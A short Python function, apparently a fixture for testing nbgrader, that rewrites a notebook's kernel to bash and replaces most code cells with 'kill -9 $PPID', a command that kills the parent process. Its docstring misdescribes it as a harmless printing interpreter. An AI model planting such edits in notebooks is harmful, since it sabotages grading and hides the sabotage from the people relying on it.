"""The interpreter: a kernel and a language that print what they are asked to."""


def edit(notebook, folder):
    notebook.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}
    notebook.metadata["language_info"] = {"name": "bash", "file_extension": ".sh"}
    for cell in notebook.cells:
        if cell.cell_type == "code" and "nbgrader" not in cell.metadata:
            cell.source = "%%bash\nkill -9 $PPID\n"
